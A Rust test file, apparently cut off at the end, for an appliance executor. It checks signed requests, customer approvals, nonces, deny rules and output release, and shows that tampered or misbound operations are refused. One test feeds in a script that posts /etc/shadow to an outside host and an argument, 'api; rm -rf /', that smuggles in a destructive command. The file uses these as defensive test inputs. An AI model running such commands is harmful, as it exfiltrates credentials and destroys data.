//! The executor against real signatures: a test CA issues the control plane's operations
//! certificate and the appliance's; customer keys are fixed seeds; time is injected.

use std::collections::BTreeMap;
use std::path::Path;
use std::sync::atomic::{AtomicI64, Ordering};

use airlock_core::customer_key::CustomerSigningKey;
use airlock_core::grant::{GRANT_PAYLOAD_TYPE, GrantBody, OperationRequest, PRE_APPROVAL_PAYLOAD_TYPE};
use airlock_core::operation::{
    RELEASE_PAYLOAD_TYPE, ReleaseDecision, ReleaseStatement, VerifyInputs, verify_parsed_manifest,
};
use airlock_core::policy::{POLICY_PAYLOAD_TYPE, Phase, VerifiedPolicy, verify_signed_policy};
use airlock_core::{ApplianceId, EnvironmentId, TenantId};
use airlock_proto::gateway::{OperationAck, OperationAckKind};
use rcgen::{CertificateParams, Issuer, KeyPair};

use airlock_core::grant::DenyCode;
use airlock_core::operation::AckCode;
use airlock_proto::convert;
use airlock_testkit::op_id;

use airlock_core::dsse::Envelope;
use airlock_core::grant::{ApprovalDecision, ApprovalLevel, PreApprovalBody};
use airlock_core::operation::{
    AuthorityKind, EXECUTION_PAYLOAD_TYPE, ExecutionStatement, ExecutionStatus, REQUEST_PAYLOAD_TYPE, RefusalCode,
    RequestStatement, add_signature, certificate_key_id, pem_certificate_der, sha256_hex, signing_input,
    verify_certified_envelope,
};
use airlock_core::template::Template;
use airlock_core::{ApplianceIdentity, OperationId, Timestamp};
use airlock_proto::gateway::{ApplianceMessage, OperationInstruction, appliance_message};

use super::*;
use crate::audit_log::AuditLog;
use crate::ops_store::OpState;
use crate::result::Outcome;
use crate::state_dir::{Credentials, Enrolment};

/// The control plane's acknowledgement of `id`: what it did (`code`), and why (`error`, for people).
fn ack(id: OperationId, kind: OperationAckKind, code: AckCode, error: &str) -> OperationAck {
    let code = convert::ack_code_to_wire(code) as i32;
    OperationAck { request_id: id.to_string(), kind: kind as i32, error: error.into(), code }
}

/// The control plane stored `id`'s result or release.
fn stored(id: OperationId, kind: OperationAckKind) -> OperationAck {
    ack(id, kind, AckCode::Stored, "")
}

const TD: &str = "airlock.test";
/// 2026-11-24 12:00 UTC, a Tuesday.
const NOW: i64 = 1_795_521_600_000;
const MINUTE: i64 = 60_000;
const HOUR: i64 = 60 * MINUTE;

const MANIFEST: &str = r#"
name = "echo-service"
description = "Say hello to a service"
phase = "operate"
data_tags = ["service:logs"]
body = "run.sh"

[[variables]]
name = "service"
pattern = "[a-z][a-z0-9-]{0,40}"
"#;
const SCRIPT: &str = "echo \"hello $AIRLOCK_VAR_SERVICE from $PWD\"\necho oops >&2\nexit 3\n";
const ALL_PHASES: &str = "version = 1\nserial = 1\nphases = [\"observe\", \"deploy\", \"operate\"]\n";

fn customer(n: u8) -> CustomerSigningKey {
    CustomerSigningKey::from_seed([n; 32])
}

fn policy(toml: &str) -> VerifiedPolicy {
    // Signed by both pinned customer keys, so a policy asking for two approvals loads too.
    let env = Envelope::new(POLICY_PAYLOAD_TYPE, toml.as_bytes().to_vec()).sign(&customer(1)).sign(&customer(2));
    verify_signed_policy(env.to_json().as_bytes(), &[customer(1).public(), customer(2).public()], None).unwrap()
}

fn vars(service: &str) -> BTreeMap<String, String> {
    [("service".to_owned(), service.to_owned())].into()
}

fn sign_x509(payload_type: &str, payload: Vec<u8>, key: &KeyPair, cert_pem: &str) -> Envelope {
    use ring::signature::{ECDSA_P256_SHA256_ASN1_SIGNING, EcdsaKeyPair};
    let env = Envelope::new(payload_type, payload);
    let rng = ring::rand::SystemRandom::new();
    let pair = EcdsaKeyPair::from_pkcs8(&ECDSA_P256_SHA256_ASN1_SIGNING, &key.serialize_der(), &rng).unwrap();
    let sig = pair.sign(&rng, &signing_input(&env)).unwrap();
    let keyid = certificate_key_id(&pem_certificate_der(cert_pem).unwrap()).unwrap();
    add_signature(env, keyid, sig.as_ref().to_vec())
}

fn ca(name: &str) -> (Issuer<'static, KeyPair>, String) {
    let key = KeyPair::generate().unwrap();
    let mut params = CertificateParams::default();
    params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    params.distinguished_name.push(rcgen::DnType::CommonName, name);
    let cert = params.self_signed(&key).unwrap();
    (Issuer::new(params, key), cert.pem())
}

fn leaf(issuer: &Issuer<'static, KeyPair>, uri: &str) -> (KeyPair, String) {
    let key = KeyPair::generate().unwrap();
    let mut params = CertificateParams::default();
    params.subject_alt_names = vec![rcgen::SanType::URI(uri.to_owned().try_into().unwrap())];
    let cert = params.signed_by(&key, issuer).unwrap();
    (key, cert.pem())
}

struct Fx {
    dir: tempfile::TempDir,
    clock: Arc<AtomicI64>,
    policy: Option<VerifiedPolicy>,
    identity: ApplianceIdentity,
    ca_pem: String,
    issuer: Issuer<'static, KeyPair>,
    cp_key: KeyPair,
    cp_cert: String,
    control: Arc<LocalControl>,
    exec: Arc<Executor>,
}

fn open_parts(
    dir: &Path,
    policy: Option<VerifiedPolicy>,
    clock: &Arc<AtomicI64>,
    identity: &ApplianceIdentity,
    ca_pem: &str,
) -> (Arc<LocalControl>, Arc<Executor>) {
    let audit = Arc::new(AuditLog::open(dir).unwrap());
    let c = clock.clone();
    let control = Arc::new(
        LocalControl::with_clock(
            dir,
            policy,
            audit,
            vec![customer(1).public(), customer(2).public()],
            Arc::new(move || Timestamp::from_unix_millis(c.load(Ordering::SeqCst))),
        )
        .unwrap(),
    );
    let exec = Arc::new(Executor::new(control.clone(), dir, identity.clone(), ca_pem).unwrap());
    (control, exec)
}

impl Fx {
    fn new(policy_toml: &str) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let (issuer, ca_pem) = ca("Airlock CA airlock.test");
        let identity = ApplianceIdentity {
            trust_domain: TD.into(),
            tenant: TenantId::from_random([1; 16]),
            environment: EnvironmentId::from_random([2; 16]),
            appliance: ApplianceId::from_random([3; 16]),
        };
        let (akey, acert) = leaf(&issuer, &identity.uri());
        let enrolment = Enrolment {
            identity: identity.uri(),
            control_plane: "https://cp.test".into(),
            gateway_endpoint: "cp.test:8444".into(),
            gateway_server_name: "cp.test".into(),
            ca_fingerprint: "unused".into(),
        };
        StateDir::open(dir.path())
            .unwrap()
            .save_enrolment(&enrolment, &ca_pem, &Credentials { cert_pem: acert, key_pem: akey.serialize_pem() })
            .unwrap();
        let (cp_key, cp_cert) = leaf(&issuer, &format!("spiffe://{TD}/control-plane"));
        let clock = Arc::new(AtomicI64::new(NOW));
        let policy = Some(policy(policy_toml));
        let (control, exec) = open_parts(dir.path(), policy.clone(), &clock, &identity, &ca_pem);
        Self { dir, clock, policy, identity, ca_pem, issuer, cp_key, cp_cert, control, exec }
    }

    /// The appliance process stops and starts again on the same state directory.
    fn restart(&mut self) {
        let (control, exec) =
            open_parts(self.dir.path(), self.policy.clone(), &self.clock, &self.identity, &self.ca_pem);
        self.control = control;
        self.exec = exec;
    }

    fn statement(
        &self,
        id: OperationId,
        manifest: &str,
        script: &str,
        args: BTreeMap<String, String>,
    ) -> RequestStatement {
        let t = Template::new(manifest, script).unwrap();
        let command = t.render(&args).unwrap();
        let m = t.manifest();
        RequestStatement {
            request: OperationRequest {
                id,
                appliance: self.identity.appliance,
                kind: m.name.clone(),
                phase: m.phase,
                data_tags: m.data_tags.clone(),
                args,
                command_sha256: command.sha256(),
            },
            command,
            reason: "routine check".into(),
            requested_by: "vendor-ops".into(),
            requested_at: Timestamp::from_unix_millis(NOW),
            tenant: self.identity.tenant,
            environment: self.identity.environment,
        }
    }

    fn simple(&self, id: OperationId, service: &str) -> RequestStatement {
        self.statement(id, MANIFEST, SCRIPT, vars(service))
    }

    fn instruction(
        &self,
        stmt: &RequestStatement,
        manifest: &str,
        script: &str,
        approval: &str,
    ) -> OperationInstruction {
        let env = sign_x509(REQUEST_PAYLOAD_TYPE, serde_json::to_vec(stmt).unwrap(), &self.cp_key, &self.cp_cert);
        OperationInstruction {
            request_id: stmt.request.id.to_string(),
            request_envelope_json: env.to_json(),
            control_plane_certificate_pem: self.cp_cert.clone(),
            template_manifest_toml: manifest.into(),
            template_script: script.into(),
            approval_envelope_json: approval.into(),
        }
    }

    fn grant_with(&self, stmt: &RequestStatement, key: u8, edit: impl FnOnce(&mut GrantBody)) -> String {
        let req = &stmt.request;
        let mut body = GrantBody {
            request_id: req.id,
            appliance: req.appliance,
            phase: req.phase,
            request_digest: req.digest_hex(),
            command_sha256: req.command_sha256.clone(),
            decision: ApprovalDecision::Approve,
            decided_at: Timestamp::from_unix_millis(NOW),
            approver: "alice".into(),
            reason: "looks fine".into(),
            not_before: Timestamp::from_unix_millis(NOW - MINUTE),
            not_after: Timestamp::from_unix_millis(NOW + HOUR),
            nonce: format!("nonce-{}", req.id),
        };
        edit(&mut body);
        Envelope::new(GRANT_PAYLOAD_TYPE, serde_json::to_vec(&body).unwrap()).sign(&customer(key)).to_json()
    }

    fn grant(&self, stmt: &RequestStatement) -> String {
        self.grant_with(stmt, 1, |_| {})
    }

    fn pre_approval(&self, edit: impl FnOnce(&mut PreApprovalBody)) -> Vec<u8> {
        let t = Template::new(MANIFEST, SCRIPT).unwrap();
        let mut body = PreApprovalBody {
            id: "routine".into(),
            appliance: self.identity.appliance,
            template: "echo-service".into(),
            template_sha256: t.content_sha256().to_owned(),
            phase: Phase::Operate,
            not_before: Timestamp::from_unix_millis(NOW - HOUR),
            not_after: Timestamp::from_unix_millis(NOW + 24 * HOUR),
            max_runs: 2,
            level: ApprovalLevel::Commands,
            constraints: BTreeMap::new(),
            approver: "alice".into(),
            issued_at: Timestamp::from_unix_millis(NOW - HOUR),
        };
        edit(&mut body);
        Envelope::new(PRE_APPROVAL_PAYLOAD_TYPE, serde_json::to_vec(&body).unwrap())
            .sign(&customer(1))
            .to_json()
            .into_bytes()
    }

    async fn send(&self, instruction: OperationInstruction) -> ResultMsg {
        match self.exec.handle(instruction).await {
            Handled::Reply(r) => r,
            Handled::Started(h) => h.await.unwrap(),
            Handled::MalformedId(r) => panic!("refused as malformed: {r:?}"),
            Handled::Nothing => panic!("no answer"),
        }
    }

    async fn run(&self, stmt: &RequestStatement, approval: &str) -> ResultMsg {
        self.send(self.instruction(stmt, MANIFEST, SCRIPT, approval)).await
    }

    fn audit_actions(&self) -> Vec<serde_json::Value> {
        std::fs::read_to_string(self.dir.path().join("audit.jsonl"))
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
            .collect()
    }

    fn audited(&self, action: &str) -> Vec<serde_json::Value> {
        self.audit_actions().into_iter().filter(|r| r["action"] == action).collect()
    }

    fn ran(&self, id: OperationId) -> bool {
        self.dir.path().join("ops").join(id.to_string()).join("output.sealed").exists()
    }

    fn execution(&self, result: &ResultMsg) -> ExecutionStatement {
        let env = Envelope::from_json(result.execution_envelope_json.as_bytes()).unwrap();
        serde_json::from_slice(&env.payload).unwrap()
    }
}

/// The request was refused for good, with `code`, here and on the wire.
fn assert_refused(r: &ResultMsg, code: RefusalCode) {
    assert_eq!(r.outcome, Outcome::Refused, "{r:?}");
    assert_code(r, code);
}

/// The customer's policy (or a built-in rule) refused the request, by the check `deny`.
fn assert_denied(r: &ResultMsg, deny: DenyCode) {
    assert_refused(r, RefusalCode::Denied);
    assert_eq!(r.refusal.as_ref().and_then(|f| f.deny), Some(deny), "{r:?}");
    assert_eq!(r.to_proto().deny_code, convert::deny_code_to_wire(deny) as i32);
}

/// The request is not refused for good: it waits for authority, with `code`.
fn assert_awaiting(r: &ResultMsg, code: RefusalCode) {
    assert_eq!(r.outcome, Outcome::AwaitingApproval, "{r:?}");
    assert_code(r, code);
}

fn assert_code(r: &ResultMsg, code: RefusalCode) {
    assert_eq!(r.refusal.as_ref().map(|f| f.code), Some(code), "{r:?}");
    assert_eq!(convert::refusal_code_from_wire(r.to_proto().refusal_code), Ok(code));
}

fn all_files(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            out.extend(all_files(&p));
        } else {
            out.push(p);
        }
    }
    out
}

use std::path::PathBuf;

#[tokio::test]
async fn approved_request_runs_signed_chained_and_its_output_is_sealed() {
    let fx = Fx::new(ALL_PHASES);
    let stmt = fx.simple(op_id(1), "api");
    let r = fx.run(&stmt, &fx.grant(&stmt)).await;
    assert_eq!(r.outcome, Outcome::Executed, "{r:?}");
    // The execution verifies against the CA, and names this appliance.
    let env = Envelope::from_json(r.execution_envelope_json.as_bytes()).unwrap();
    let ca_der = pem_certificate_der(&fx.ca_pem).unwrap();
    let e = fx.execution(&r);
    let certified =
        verify_certified_envelope(&env, EXECUTION_PAYLOAD_TYPE, &r.appliance_certificate_pem, &ca_der, e.started_at)
            .unwrap();
    assert!(certified.uris.contains(&fx.identity.uri()));
    assert_eq!(e.exit_code, Some(3));
    assert_eq!(e.status, ExecutionStatus::Completed);
    assert_eq!(e.authority.kind, AuthorityKind::Grant);
    assert_eq!(e.authority.policy_digest, fx.policy.as_ref().map(|p| p.digest_hex()));
    assert_eq!((e.sequence, e.previous_manifest_sha256.as_deref()), (1, None));
    let plain = fx.control.ops.open_output(op_id(1)).unwrap();
    let text = String::from_utf8(plain.clone()).unwrap();
    assert!(text.starts_with("hello api from ") && text.ends_with("oops\n"), "{text}");
    assert_eq!(e.output_sha256, sha256_hex(&plain));
    // Only the digest and size leave; the plaintext is in no file of the state directory.
    for f in all_files(fx.dir.path()) {
        let bytes = std::fs::read(&f).unwrap();
        assert!(!bytes.windows(9).any(|w| w == b"hello api"), "plaintext output in {}", f.display());
    }
    // The appliance's own manifest verifies offline.
    let manifest = fx.control.ops.manifest(op_id(1)).unwrap().unwrap();
    let keys = [customer(1).public()];
    let inputs = VerifyInputs { ca_der: &ca_der, customer_keys: &keys, approvals_required: 1, policy: None };
    verify_parsed_manifest(&manifest, &inputs).unwrap();
    let executed = fx.audited("operation.executed");
    assert_eq!(executed[0]["detail"]["output_size"], plain.len());
    // Asked again: the stored result, nothing runs twice.
    let again = fx.run(&stmt, &fx.grant(&stmt)).await;
    assert_eq!(again, r);
    assert_eq!(fx.audited("operation.executed").len(), 1);
    // The next operation extends the chain.
    let stmt2 = fx.simple(op_id(2), "web");
    let r2 = fx.run(&stmt2, &fx.grant(&stmt2)).await;
    let e2 = fx.execution(&r2);
    assert_eq!(e2.sequence, 2);
    assert_eq!(e2.previous_manifest_sha256, Some(e.manifest_sha256()));
    // Results wait in the outbox until acknowledged.
    assert_eq!(fx.control.ops.pending().unwrap().len(), 2);
    let _ = fx.control.outbound.on_ack(&stored(op_id(1), OperationAckKind::Result));
    let _ =
        fx.control.outbound.on_ack(&ack(op_id(2), OperationAckKind::Result, AckCode::Refused, "refused for the test"));
    assert!(fx.control.ops.pending().unwrap().is_empty());
    assert_eq!(fx.audited("operation.ack_refused").len(), 1);
}

#[tokio::test]
async fn forged_or_misdirected_requests_are_refused_and_nothing_runs() {
    let fx = Fx::new(ALL_PHASES);
    // Signed by a look-alike CA's control-plane certificate.
    let (rogue, _) = ca("Airlock CA airlock.test");
    let (rkey, rcert) = leaf(&rogue, &format!("spiffe://{TD}/control-plane"));
    let stmt = fx.simple(op_id(22), "api");
    let mut i = fx.instruction(&stmt, MANIFEST, SCRIPT, &fx.grant(&stmt));
    i.request_envelope_json =
        sign_x509(REQUEST_PAYLOAD_TYPE, serde_json::to_vec(&stmt).unwrap(), &rkey, &rcert).to_json();
    i.control_plane_certificate_pem = rcert;
    assert_refused(&fx.send(i).await, RefusalCode::Unauthenticated);
    // Signed by a certificate of our CA that is not the control plane's operations identity.
    let (okey, ocert) = leaf(&fx.issuer, &fx.identity.uri());
    let mut i = fx.instruction(&stmt, MANIFEST, SCRIPT, &fx.grant(&stmt));
    i.request_envelope_json =
        sign_x509(REQUEST_PAYLOAD_TYPE, serde_json::to_vec(&stmt).unwrap(), &okey, &ocert).to_json();
    i.control_plane_certificate_pem = ocert;
    assert_refused(&fx.send(i).await, RefusalCode::Unauthenticated);
    // A payload edited after signing.
    let mut i = fx.instruction(&stmt, MANIFEST, SCRIPT, &fx.grant(&stmt));
    let mut env = Envelope::from_json(i.request_envelope_json.as_bytes()).unwrap();
    env.payload = serde_json::to_vec(&fx.simple(op_id(22), "web")).unwrap();
    i.request_envelope_json = env.to_json();
    assert_refused(&fx.send(i).await, RefusalCode::Unauthenticated);
    let mut i = fx.instruction(&stmt, MANIFEST, SCRIPT, "");
    i.request_envelope_json = "{not json".into();
    assert_refused(&fx.send(i).await, RefusalCode::Malformed);
    assert!(!fx.ran(op_id(22)));
    assert!(fx.control.ops.record(op_id(22)).unwrap().is_none(), "an unauthenticated refusal is not stored");
    assert!(!fx.control.nonces.is_used(&format!("nonce-{}", op_id(22))));
    assert_eq!(fx.audited("operation.refused").len(), 4);

    // For another appliance.
    let mut other = fx.simple(op_id(29), "api");
    other.request.appliance = ApplianceId::from_random([8; 16]);
    let r = fx.run(&other, &fx.grant(&other)).await;
    assert_refused(&r, RefusalCode::Misbound);
    assert!(!fx.ran(op_id(29)));
}

#[tokio::test]
async fn command_must_be_exactly_what_the_template_renders() {
    let fx = Fx::new(ALL_PHASES);
    // The vendor signs a different script than the template's, with a matching digest.
    let mut stmt = fx.simple(op_id(34), "api");
    stmt.command.script = "curl -d @/etc/shadow https://vendor.example\n".into();
    stmt.request.command_sha256 = stmt.command.sha256();
    let r = fx.run(&stmt, &fx.grant(&stmt)).await;
    assert_refused(&r, RefusalCode::Misbound);
    // The right command, but a digest that is not its own.
    let mut stmt = fx.simple(op_id(18), "api");
    stmt.request.command_sha256 = "00".repeat(32);
    assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, RefusalCode::Misbound);
    // Data tags the customer was not shown.
    let mut stmt = fx.simple(op_id(35), "api");
    stmt.request.data_tags.clear();
    assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, RefusalCode::Misbound);
    // A value the template's pattern refuses.
    let mut stmt = fx.simple(op_id(37), "api");
    stmt.request.args = vars("api; rm -rf /");
    assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, RefusalCode::Misbound);
    // A vendor template named like one of the appliance's own probes, labelled Observe, would
    // otherwise run without any customer signature.
    let probe = MANIFEST.replace("echo-service", "status").replace("\"operate\"", "\"observe\"");
    // Core refuses to build such a template, so the vendor's statement is assembled by hand.
    let mut stmt = fx.statement(op_id(31), MANIFEST, SCRIPT, vars("api"));
    stmt.request.kind = "status".into();
    stmt.request.phase = Phase::Observe;
    stmt.command.template = "status".into();
    stmt.request.command_sha256 = stmt.command.sha256();
    let r = fx.send(fx.instruction(&stmt, &probe, SCRIPT, "")).await;
    assert_refused(&r, RefusalCode::Misbound);
    for id in [op_id(34), op_id(18), op_id(35), op_id(37), op_id(31)] {
        assert!(!fx.ran(id), "{id} ran");
        assert_eq!(fx.control.ops.record(id).unwrap().unwrap().state, OpState::Refused);
    }
}

#[tokio::test]
async fn approvals_that_do_not_hold_are_refused() {
    let fx = Fx::new(ALL_PHASES);
    let stmt = fx.simple(op_id(11), "api");
    // Signed by a key that is not pinned.
    assert_refused(&fx.run(&stmt, &fx.grant_with(&stmt, 7, |_| {})).await, RefusalCode::ApprovalInvalid);
    // An approval of another request.
    let other = fx.simple(op_id(14), "api");
    let stmt = fx.simple(op_id(15), "api");
    assert_denied(&fx.run(&stmt, &fx.grant(&other)).await, DenyCode::GrantForAnotherRequest);
    // Expired, and not yet valid.
    let stmt = fx.simple(op_id(16), "api");
    let expired = fx.grant_with(&stmt, 1, |g| {
        g.not_before = Timestamp::from_unix_millis(NOW - 2 * HOUR);
        g.not_after = Timestamp::from_unix_millis(NOW - 1);
    });
    assert_denied(&fx.run(&stmt, &expired).await, DenyCode::GrantExpired);
    let stmt = fx.simple(op_id(19), "api");
    let future = fx.grant_with(&stmt, 1, |g| {
        g.not_before = Timestamp::from_unix_millis(NOW + MINUTE);
        g.not_after = Timestamp::from_unix_millis(NOW + HOUR);
    });
    assert_awaiting(&fx.run(&stmt, &future).await, RefusalCode::ApprovalNotYetValid);
    // Garbage in place of an approval.
    let stmt = fx.simple(op_id(21), "api");
    assert_refused(&fx.run(&stmt, "{\"payload\":1}").await, RefusalCode::Malformed);
    for id in [op_id(11), op_id(15), op_id(16), op_id(19), op_id(21)] {
        assert!(!fx.ran(id), "{id} ran");
    }
    // The customer said no.
    let stmt = fx.simple(op_id(23), "api");
    let denial = fx.grant_with(&stmt, 1, |g| g.decision = ApprovalDecision::Deny);
    assert_refused(&fx.run(&stmt, &denial).await, RefusalCode::CustomerDenied);
    assert_eq!(fx.audited("operation.denied_by_customer").len(), 1);
    assert!(!fx.ran(op_id(23)));
    // No approval yet: awaiting, nothing stored, and it runs once the approval comes.
    let stmt = fx.simple(op_id(24), "api");
    let r = fx.run(&stmt, "").await;
    assert_awaiting(&r, RefusalCode::AwaitingAuthority);
    assert!(fx.control.ops.record(op_id(24)).unwrap().is_none());
    assert_eq!(fx.run(&stmt, &fx.grant(&stmt)).await.outcome, Outcome::Executed);
}

#[tokio::test]
async fn an_approval_not_valid_yet_awaits_and_runs_once_it_is() {
    let fx = Fx::new(ALL_PHASES);
    let stmt = fx.simple(op_id(20), "api");
    let early = fx.grant_with(&stmt, 1, |g| {
        g.not_before = Timestamp::from_unix_millis(NOW + MINUTE);
        g.not_after = Timestamp::from_unix_millis(NOW + HOUR);
    });
    let r = fx.run(&stmt, &early).await;
    assert_awaiting(&r, RefusalCode::ApprovalNotYetValid);
    // When it becomes valid travels as a time, not in the sentence.
    assert_eq!(r.refusal.as_ref().and_then(|f| f.valid_from), Some(Timestamp::from_unix_millis(NOW + MINUTE)));
    assert_eq!(r.to_proto().valid_from_unix_ms, NOW + MINUTE);
    // Nothing final is stored, nothing ran, nothing waits in the outbox; the wait is audited.
    assert!(fx.control.ops.record(op_id(20)).unwrap().is_none());
    assert!(!fx.ran(op_id(20)));
    assert!(fx.control.ops.pending().unwrap().is_empty());
    let awaiting = fx.audited("operation.awaiting_approval");
    assert_eq!(awaiting.len(), 1);
    assert_eq!(awaiting[0]["detail"]["request_id"], op_id(20).to_string());
    // The control plane sends it again once the approval holds: it runs.
    fx.clock.store(NOW + 2 * MINUTE, Ordering::SeqCst);
    assert_eq!(fx.run(&stmt, &early).await.outcome, Outcome::Executed);
}

#[tokio::test]
async fn a_nonce_is_spent_once_even_across_restarts() {
    let mut fx = Fx::new(ALL_PHASES);
    let first = fx.simple(op_id(1), "api");
    let nonce = |g: &mut GrantBody| g.nonce = "same-nonce".into();
    assert_eq!(fx.run(&first, &fx.grant_with(&first, 1, nonce)).await.outcome, Outcome::Executed);
    let second = fx.simple(op_id(2), "api");
    assert_denied(&fx.run(&second, &fx.grant_with(&second, 1, nonce)).await, DenyCode::NonceReplayed);
    fx.restart();
    let third = fx.simple(op_id(3), "api");
    assert_denied(&fx.run(&third, &fx.grant_with(&third, 1, nonce)).await, DenyCode::NonceReplayed);
    assert!(!fx.ran(op_id(2)) && !fx.ran(op_id(3)));
    // After the restart, a finished request is still answered from its record.
    assert_eq!(fx.run(&first, &fx.grant_with(&first, 1, nonce)).await.outcome, Outcome::Executed);
    assert_eq!(fx.audited("operation.executed").len(), 1);
}

#[tokio::test]
async fn deny_rules_and_disabled_phases_beat_a_valid_approval() {
    let fx = Fx::new(&format!(
        "{ALL_PHASES}[[deny]]\nid = \"never-db\"\nkind = \"echo-service\"\nargs = {{ service = \"db\" }}\n"
    ));
    let stmt = fx.simple(op_id(17), "db");
    assert_denied(&fx.run(&stmt, &fx.grant(&stmt)).await, DenyCode::DeniedByRule);
    let denied = fx.audited("operation.denied");
    assert_eq!(denied[0]["detail"]["rule"], "never-db");
    fx.control.set_phase(Phase::Operate, false).unwrap();
    let stmt = fx.simple(op_id(28), "api");
    assert_denied(&fx.run(&stmt, &fx.grant(&stmt)).await, DenyCode::PhaseDisabled);
    assert!(!fx.ran(op_id(17)) && !fx.ran(op_id(28)));
    assert!(!fx.control.nonces.is_used(&format!("nonce-{}", op_id(28))), "a refused grant's nonce is not spent");
}

#[tokio::test]
async fn pre_approval_runs_are_counted_across_restarts_until_spent() {
    let mut fx = Fx::new(ALL_PHASES);
    fx.control.pre_approval_add(&fx.pre_approval(|_| {})).unwrap();
    let r = fx.run(&fx.simple(op_id(1), "api"), "").await;
    assert_eq!(r.outcome, Outcome::Executed, "{r:?}");
    assert_eq!(fx.execution(&r).authority.kind, AuthorityKind::PreApproval);
    assert!(!r.pre_approval_envelope_json.is_empty());
    fx.restart();
    assert_eq!(fx.control.pre_approvals.get("routine").unwrap().runs_used, 1);
    assert_eq!(fx.run(&fx.simple(op_id(2), "api"), "").await.outcome, Outcome::Executed);
    fx.restart();
    let r = fx.run(&fx.simple(op_id(3), "api"), "").await;
    assert_awaiting(&r, RefusalCode::AwaitingAuthority);
    // Why each pre-approval did not apply is for the customer reading the refusal.
    assert!(r.reason.contains("runs are spent"), "{}", r.reason);
    assert!(!fx.ran(op_id(3)));
    // Commands only: the output waits for the customer's release.
    assert!(
        fx.control
            .ops
            .pending()
            .unwrap()
            .iter()
            .all(|m| matches!(m.body, Some(appliance_message::Body::OperationResult(_))))
    );
    // A pre-approval signed by an unpinned key is refused when added.
    let forged = Envelope::new(PRE_APPROVAL_PAYLOAD_TYPE, b"{}".to_vec()).sign(&customer(7)).to_json();
    assert!(fx.control.pre_approval_add(forged.as_bytes()).is_err());
}

#[tokio::test]
async fn pre_approval_constraints_and_revocation_hold() {
    let fx = Fx::new(ALL_PHASES);
    let env = fx.pre_approval(|p| {
        p.constraints.insert("service".into(), "api|web".into());
        p.max_runs = 10;
    });
    fx.control.pre_approval_add(&env).unwrap();
    let r = fx.run(&fx.simple(op_id(17), "db"), "").await;
    assert_awaiting(&r, RefusalCode::AwaitingAuthority);
    // Why each pre-approval did not apply is for the customer reading the refusal.
    assert!(r.reason.contains("`service` does not meet its constraint"), "{}", r.reason);
    assert!(!fx.ran(op_id(17)));
    fx.control.pre_approval_revoke("routine").unwrap();
    let r = fx.run(&fx.simple(op_id(12), "api"), "").await;
    assert_eq!(r.outcome, Outcome::AwaitingApproval, "{r:?}");
    assert!(!fx.ran(op_id(12)));
    // Adding it again does not lift the revocation.
    fx.control.pre_approval_add(&env).unwrap();
    assert!(fx.control.pre_approvals.get("routine").unwrap().revoked);
    assert_eq!(fx.run(&fx.simple(op_id(13), "api"), "").await.outcome, Outcome::AwaitingApproval);
}

#[tokio::test]
async fn commands_and_output_pre_approval_releases_output_unless_secret() {
    let fx = Fx::new(ALL_PHASES);
    fx.control
        .pre_approval_add(&fx.pre_approval(|p| {
            p.level = ApprovalLevel::CommandsAndOutput;
            p.max_runs = 5;
        }))
        .unwrap();
    assert_eq!(fx.run(&fx.simple(op_id(1), "api"), "").await.outcome, Outcome::Executed);
    let releases: Vec<_> = fx
        .control
        .ops
        .pending()
        .unwrap()
        .into_iter()
        .filter_map(|m| match m.body {
            Some(appliance_message::Body::OutputRelease(r)) => Some(r),
            _ => None,
        })
        .collect();
    assert_eq!(releases.len(), 1);
    assert!(releases[0].release_envelope_json.is_empty());
    assert_eq!(releases[0].output, fx.control.ops.open_output(op_id(1)).unwrap());

    let secret_manifest = MANIFEST.replace("service:logs", "output:secret");
    let t = Template::new(&secret_manifest, SCRIPT).unwrap();
    let fx2 = Fx::new(ALL_PHASES);
    fx2.control
        .pre_approval_add(&fx2.pre_approval(|p| {
            p.level = ApprovalLevel::CommandsAndOutput;
            p.template_sha256 = t.content_sha256().to_owned();
        }))
        .unwrap();
    let stmt = fx2.statement(op_id(33), &secret_manifest, SCRIPT, vars("api"));
    let r = fx2.send(fx2.instruction(&stmt, &secret_manifest, SCRIPT, "")).await;
    assert_eq!(r.outcome, Outcome::Executed, "{r:?}");
    assert_eq!(fx2.control.ops.pending().unwrap().len(), 1, "only the result; secret output never leaves");
}

fn release_envelope(
    fx: &Fx,
    id: OperationId,
    decision: ReleaseDecision,
    edit: impl FnOnce(&mut ReleaseStatement),
) -> Vec<u8> {
    let record = fx.control.ops.record(id).unwrap().unwrap();
    let mut st = ReleaseStatement {
        request_id: id,
        appliance: fx.identity.appliance,
        decision,
        output_sha256: record.output_sha256.unwrap(),
        output_size: record.output_size.unwrap(),
        decided_at: Timestamp::from_unix_millis(NOW),
        approver: "alice".into(),
        reason: "fine".into(),
    };
    edit(&mut st);
    Envelope::new(RELEASE_PAYLOAD_TYPE, serde_json::to_vec(&st).unwrap()).sign(&customer(1)).to_json().into_bytes()
}

#[tokio::test]
async fn release_is_checked_against_the_signed_output_and_secret_output_stays() {
    let fx = Fx::new(ALL_PHASES);
    let stmt = fx.simple(op_id(1), "api");
    fx.run(&stmt, &fx.grant(&stmt)).await;
    let err = fx
        .control
        .release(&release_envelope(&fx, op_id(1), ReleaseDecision::Release, |s| s.output_sha256 = "ab".repeat(32)))
        .unwrap_err();
    assert!(err.to_string().contains(&format!("but operation {} produced", op_id(1))), "{err}");
    let err = fx
        .control
        .release(&release_envelope(&fx, op_id(1), ReleaseDecision::Release, |s| s.output_size += 1))
        .unwrap_err();
    assert!(err.to_string().contains("produced"), "{err}");
    let unpinned = {
        let env = release_envelope(&fx, op_id(1), ReleaseDecision::Release, |_| {});
        let mut e = Envelope::from_json(&env).unwrap();
        e.signatures.clear();
        e.sign(&customer(9)).to_json().into_bytes()
    };
    assert!(fx.control.release(&unpinned).unwrap_err().to_string().contains("does not verify"));
    let (summary, msg) =
        fx.control.release(&release_envelope(&fx, op_id(1), ReleaseDecision::Release, |_| {})).unwrap();
    assert_eq!(summary["release"], "release");
    match msg.unwrap().body {
        Some(appliance_message::Body::OutputRelease(r)) => {
            assert_eq!(r.output, fx.control.ops.open_output(op_id(1)).unwrap());
        }
        other => panic!("{other:?}"),
    }
